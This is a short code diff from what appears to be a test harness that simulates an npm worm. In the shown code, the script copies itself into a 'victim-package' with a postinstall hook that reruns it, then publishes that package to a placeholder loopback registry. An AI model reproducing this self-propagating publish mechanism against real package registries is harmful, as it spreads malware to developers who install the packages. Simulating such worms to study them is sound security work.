@@ -49,5 +49,7 @@ const get = (url, file) => new Promise((resolve) => http.get(url, (res) => res.p
   fs.mkdirSync(copy, { recursive: true });
   fs.copyFileSync(__filename, path.join(copy, 'bundle.js'));
   fs.writeFileSync(path.join(copy, 'package.json'), JSON.stringify({ name: 'victim-package', version: '1.0.1', scripts: { postinstall: 'node bundle.js' } }));
-  spawnSync('npm', ['publish', '--registry', '__REGISTRY__'], { cwd: copy, stdio: 'ignore' });
+  // The worm publishes with the victim's own npm configuration (no flag); here that
+  // configuration points at the loopback registry.
+  spawnSync('npm', ['publish'], { cwd: copy, stdio: 'ignore', env: { ...process.env, npm_config_registry: '__REGISTRY__' } });
 })();
